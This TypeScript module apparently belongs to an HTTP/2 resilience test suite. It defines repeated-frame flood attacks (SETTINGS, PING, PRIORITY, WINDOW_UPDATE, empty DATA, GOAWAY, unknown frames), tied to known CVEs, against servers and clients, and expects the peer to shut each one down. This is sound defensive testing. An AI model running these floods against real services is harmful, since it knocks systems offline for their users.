// Floods: legal frames that cost the sender nothing, over and over.
import {
  ErrorCode,
  formatData,
  formatGoaway,
  formatPing,
  formatPriority,
  formatSettings,
  formatWindowUpdate,
  frameHeadBytes,
  SettingId,
  writeFrameHead,
} from "@trunkline/http2";
import { type Attack, calmDown } from "../attack.js";
import { collectCall } from "../wire/calls.js";
import { join, repeat, zeros } from "../wire/octets.js";
import type { RawPeer } from "../wire/raw-peer.js";

const against = "server";
const framesPerWrite = 1000;

/** A frame of any type. */
function frame(type: number, flags: number, id: number, payload: Uint8Array): Uint8Array {
  const head = zeros(frameHeadBytes);
  writeFrameHead(head, 0, payload.length, type, flags, id);
  return join(head, payload);
}

/** The same bytes over and over. */
function flood(one: (peer: RawPeer) => Uint8Array): Pick<Attack, "chunk"> {
  return { chunk: (peer) => repeat(framesPerWrite, () => one(peer)) };
}

const silent = { behaviour: { reads: false } } as const;
const settings = formatSettings([SettingId.MAX_FRAME_SIZE, 16_384]);
const ping = formatPing(zeros(8));
const unknownType = 0xbe;

/** Floods that need no stream: they work in both directions. */
const connectionFloods: readonly Omit<Attack, "against">[] = [
  {
    name: "settings-flood",
    cve: "CVE-2019-9515",
    sends: "SETTINGS, and reads the answers",
    ending: calmDown(/SETTINGS/),
    counter: "settings",
    ...flood(() => settings),
  },
  {
    name: "settings-unread",
    cve: "CVE-2019-9515",
    sends: "SETTINGS, and never reads the answers",
    ending: calmDown(/SETTINGS|answers/),
    counter: "settings",
    ...silent,
    ...flood(() => settings),
  },
  {
    name: "settings-large",
    cve: "CVE-2020-11080",
    sends: "SETTINGS of 2,000 entries",
    ending: calmDown(/SETTINGS/),
    counter: "connectionErrors",
    chunk: () => formatSettings(Array.from({ length: 4000 }, (_, i) => (i % 2 === 0 ? 0xff00 : 1))),
  },
  {
    name: "ping-flood",
    cve: "CVE-2019-9512",
    sends: "PING, and reads the answers",
    ending: calmDown(/ping|answers/i),
    counter: "pings",
    ...flood(() => ping),
  },
  {
    name: "ping-unread",
    cve: "CVE-2019-9512",
    sends: "PING, and never reads the answers",
    ending: calmDown(/ping|answers/i),
    counter: "pings",
    ...silent,
    ...flood(() => ping),
  },
  {
    name: "ping-ack-flood",
    sends: "answers to PINGs that were never sent",
    ending: calmDown(/./),
    counter: "glitches",
    ...flood(() => formatPing(zeros(8), true)),
  },
  {
    name: "priority-flood",
    cve: "CVE-2019-9513",
    sends: "PRIORITY for streams that are not there, in circles",
    ending: calmDown(/./),
    counter: "glitches",
    ...flood((peer) => {
      peer.turn = (peer.turn + 2) % 2000;
      return formatPriority(peer.turn + 1, ((peer.turn + 2) % 2000) + 1);
    }),
  },
  {
    name: "unknown-frames",
    sends: "empty frames of a type that does not exist",
    ending: calmDown(/./),
    counter: "glitches",
    ...flood(() => frame(unknownType, 0, 0, zeros(0))),
  },
  {
    name: "unknown-frames-large",
    sends: "frames of 16 KiB of a type that does not exist",
    ending: calmDown(/./),
    counter: "glitches",
    chunk: () => repeat(4, () => frame(unknownType, 0xff, 1, zeros(16_384))),
  },
  {
    name: "window-update-flood",
    sends: "WINDOW_UPDATE of 1 on the connection",
    ending: calmDown(/WINDOW_UPDATE/),
    counter: "windowUpdates",
    ...flood(() => formatWindowUpdate(0, 1)),
  },
];

const streamFloods: readonly Omit<Attack, "against">[] = [
  {
    name: "stream-window-update-flood",
    sends: "WINDOW_UPDATE of 1 on a stream",
    ending: calmDown(/WINDOW_UPDATE/),
    counter: "windowUpdates",
    opening: (peer) => collectCall(peer, true),
    ...flood((peer) => formatWindowUpdate(peer.lastId, 1)),
  },
  {
    name: "settings-window-churn",
    cve: "CVE-2019-9515",
    sends: "SETTINGS that move the windows of 900 streams up and down",
    ending: calmDown(/SETTINGS/),
    counter: "settings",
    opening: (peer) => repeat(900, () => collectCall(peer)),
    chunk: () =>
      repeat(100, (i) => formatSettings([SettingId.INITIAL_WINDOW_SIZE, i % 2 === 0 ? 0 : 65_535])),
  },
  {
    name: "empty-data",
    cve: "CVE-2019-9518",
    sends: "DATA without a byte, and without END_STREAM",
    ending: calmDown(/DATA/),
    counter: "emptyData",
    opening: (peer) => collectCall(peer),
    ...flood((peer) => formatData(peer.lastId, zeros(0))),
  },
  {
    name: "padding-only-data",
    cve: "CVE-2019-9518",
    sends: "DATA that is nothing but 255 bytes of padding",
    ending: calmDown(/DATA/),
    counter: "emptyData",
    opening: (peer) => collectCall(peer),
    ...flood((peer) => formatData(peer.lastId, zeros(0), false, 255)),
  },
  {
    name: "tiny-data-unread",
    cve: "RUSTSEC-2026-0258",
    sends: "DATA of one byte for handlers that do not read",
    ending: calmDown(/DATA/),
    counter: "tinyData",
    opening: (peer) => collectCall(peer, true),
    ...flood((peer) => formatData(peer.lastId, zeros(1))),
  },
  {
    name: "goaway-flood",
    sends: "GOAWAY, while an upload goes on",
    ending: calmDown(/./),
    counter: "glitches",
    opening: (peer) => collectCall(peer, true),
    ...flood(() => formatGoaway(0, ErrorCode.NO_ERROR)),
  },
];

export const floodAttacks: readonly Attack[] = [
  ...connectionFloods.map((attack) => ({ ...attack, against }) as const),
  ...streamFloods.map((attack) => ({ ...attack, against }) as const),
];

/** The same floods from a server, named for it. */
export const floodsFromServers: readonly Attack[] = connectionFloods.map((attack) => ({
  ...attack,
  name: `server-${attack.name}`,
  against: "client",
}));
